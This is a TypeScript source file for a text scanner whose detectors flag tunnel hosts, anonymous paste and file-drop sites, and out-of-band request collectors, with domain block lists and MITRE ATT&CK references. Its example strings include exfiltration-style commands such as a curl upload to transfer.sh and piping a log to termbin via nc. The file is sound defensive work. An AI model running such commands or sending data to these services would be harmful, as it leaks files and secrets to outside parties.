import type { Detector, Hit } from '../../detector.ts'
import { isDocument, isInBackticks } from '../surroundings.ts'

/** A host of one of these domains with a label of its own: `x7f3.ngrok-free.app`. */
const TUNNELS = [
  'ngrok.io',
  'ngrok.app',
  'ngrok.dev',
  'ngrok-free.app',
  'ngrok-free.dev',
  'trycloudflare.com',
  'loca.lt',
  'localtunnel.me',
  'serveo.net',
  'serveousercontent.com',
  'localhost.run',
  'lhr.life',
  'lhr.rocks',
  'bore.pub',
  'pagekite.me',
  'localto.net',
  'devtunnels.ms',
  'pinggy.link',
  'pinggy.online',
  'tunnelmole.net',
  'share.zrok.io',
  'ply.gg',
  'cpolar.io',
  'cpolar.top',
  'telebit.cloud',
  'tunnelto.dev',
]

const PASTES = [
  'pastebin.com',
  'paste.ee',
  'hastebin.com',
  'dpaste.com',
  'dpaste.org',
  'ghostbin.com',
  'rentry.co',
  'rentry.org',
  'ix.io',
  'sprunge.us',
  '0x0.st',
  'termbin.com',
  'transfer.sh',
  'file.io',
  'paste.rs',
  'bashupload.com',
  'temp.sh',
  'oshi.at',
  'gofile.io',
  'pixeldrain.com',
  'catbox.moe',
  'controlc.com',
  'privatebin.net',
  'anonfiles.com',
  'tmpfiles.org',
  'filebin.net',
  'pastes.io',
  'justpaste.it',
]

/** They show every request they get to whoever made the name; these serve nothing but attacks and their tests. */
const OUT_OF_BAND = [
  'burpcollaborator.net',
  'oastify.com',
  'oast.fun',
  'oast.live',
  'oast.me',
  'oast.online',
  'oast.pro',
  'oast.site',
  'interact.sh',
  'interactsh.com',
  'dnslog.cn',
  'ceye.io',
  'eyes.sh',
  'canarytokens.com',
  'dnsbin.zhack.ca',
  'xss.report',
  'bxss.me',
]

/** These also serve people who write webhooks. */
const WEBHOOK_BINS = [
  'webhook.site',
  'requestbin.com',
  'requestbin.net',
  'requestcatcher.com',
  'm.pipedream.net',
  'hookbin.com',
  'beeceptor.com',
  'postb.in',
  'pingb.in',
]

const COLLECTORS = [...OUT_OF_BAND, ...WEBHOOK_BINS]

const OWN_SITE =
  /^(?:www|docs?|dashboard|api|blog|status|help|support|app|get|download|bin|update)\./

const HOST = /(?<![a-z0-9_-])[a-z0-9_-]{1,63}(?:\.[a-z0-9_-]{1,63}){1,8}/gi
const MAX_HITS = 32

/** A host of one of the listed domains, and what stands around it. */
interface Place {
  readonly start: number
  readonly end: number
  /** Lower case. */
  readonly host: string
  /** It has labels before the listed domain. */
  readonly hasOwnLabel: boolean
  readonly isUrl: boolean
}

function isListed(host: string, domains: ReadonlySet<string>): string | null {
  const labels = host.split('.')
  for (let take = 2; take <= 3 && take <= labels.length; take += 1) {
    const domain = labels.slice(-take).join('.')
    if (domains.has(domain)) return domain
  }
  return null
}

/** What to make of a place; null for nothing. */
type Judge = (place: Place, text: string) => number | null

/** A place named in a manual is not a place somebody is sent to. */
const isMention = (text: string, start: number, end: number): boolean =>
  isDocument(text) || isInBackticks(text, start, end)

function placesOf(domains: ReadonlySet<string>, judge: Judge): Detector['find'] {
  return (text, from, to) => {
    const hits: Hit[] = []
    const window = from === 0 && to === text.length ? text : text.slice(from, to)
    HOST.lastIndex = 0
    for (let match = HOST.exec(window); match !== null; match = HOST.exec(window)) {
      const host = match[0].toLowerCase()
      const domain = isListed(host, domains)
      const start = from + match.index
      const end = start + match[0].length
      const before = text.charAt(start - 1)
      if (domain === null || before === '@' || before === '.') continue
      const place: Place = {
        start,
        end,
        host,
        hasOwnLabel: host !== domain,
        isUrl: before === '/' && text.charAt(start - 2) === '/',
      }
      const confidence = judge(place, text)
      if (confidence === null) continue
      hits.push({
        start,
        end,
        confidence: isMention(text, start, end) ? Math.min(confidence, 0.45) : confidence,
      })
      if (hits.length >= MAX_HITS) break
    }
    return hits
  }
}

const PATH = /[/:][\w-]{2,80}/y
function hasPath(text: string, end: number): boolean {
  PATH.lastIndex = end
  return PATH.test(text)
}

const CLIENT = /\b(?:curl|nc|ncat|wget|telnet|invoke-restmethod|irm)\s/i
/** How far back a client is looked for, on the same line. */
const CLIENT_UNITS = 120

function isCalled(text: string, start: number): boolean {
  const before = text.slice(Math.max(0, start - CLIENT_UNITS), start)
  return CLIENT.test(before.slice(before.lastIndexOf('\n') + 1))
}

export const tunnelHost: Detector = {
  id: 'tunnel-host',
  category: 'network_threat',
  severity: 'high',
  confidence: 0.7,
  summary: 'a host behind a public tunnel into somebody’s machine',
  needs: TUNNELS,
  reach: { before: 200, after: 8 },
  source: 'MITRE ATT&CK T1572; the operators’ own documentation of their domains',
  catches: [
    'https://x7f3-203-0-113-9.ngrok-free.app/hook',
    'send it to calm-fox.trycloudflare.com',
  ],
  ignores: ['we use ngrok for demos', 'https://dashboard.ngrok.app/', 'docs.ngrok.io', 'ngrok.io'],
  find: placesOf(new Set(TUNNELS), (place) =>
    place.hasOwnLabel && !OWN_SITE.test(place.host) ? 0.7 : null,
  ),
}

export const pasteSite: Detector = {
  id: 'paste-site',
  category: 'network_threat',
  severity: 'high',
  confidence: 0.6,
  summary: 'a page or an upload address of an anonymous paste or file-drop site',
  needs: PASTES,
  reach: { before: 200, after: 100 },
  source: 'MITRE ATT&CK T1102.001, T1567.003',
  catches: [
    'https://pastebin.com/raw/Ab3dE9xQ',
    'curl --upload-file report.tgz https://transfer.sh/report.tgz',
    'cat out.log | nc termbin.com 9999',
  ],
  ignores: [
    'pastebin.com is a site',
    'profile.io/team',
    'https://matrix.io/rooms',
    'suffix.io',
    'https://pastebin.com',
  ],
  find: placesOf(new Set(PASTES), (place, text) => {
    return isCalled(text, place.start) || hasPath(text, place.end) ? 0.6 : null
  }),
}

export const requestCollector: Detector = {
  id: 'request-collector',
  category: 'network_threat',
  severity: 'high',
  confidence: 0.85,
  summary: 'a host that shows every request it gets to whoever made its name',
  needs: COLLECTORS,
  reach: { before: 260, after: 90 },
  source: 'MITRE ATT&CK T1567.004, T1048; PortSwigger and ProjectDiscovery on out-of-band testing',
  catches: [
    'http://a1b2c3d4e5.oastify.com/x',
    'https://webhook.site/3f0c2f0e-77aa-4c1e',
    'nslookup q.abc123.dnslog.cn',
  ],
  ignores: ['webhook.site is handy', 'https://docs.pipedream.net/', 'www.interactsh.com'],
  find: placesOf(new Set(COLLECTORS), (place, text) => {
    if (OWN_SITE.test(place.host)) return null
    if (!place.hasOwnLabel && !(place.isUrl && hasPath(text, place.end))) return null
    return WEBHOOK_BINS.some((domain) => place.host.endsWith(domain)) ? 0.6 : 0.85
  }),
}
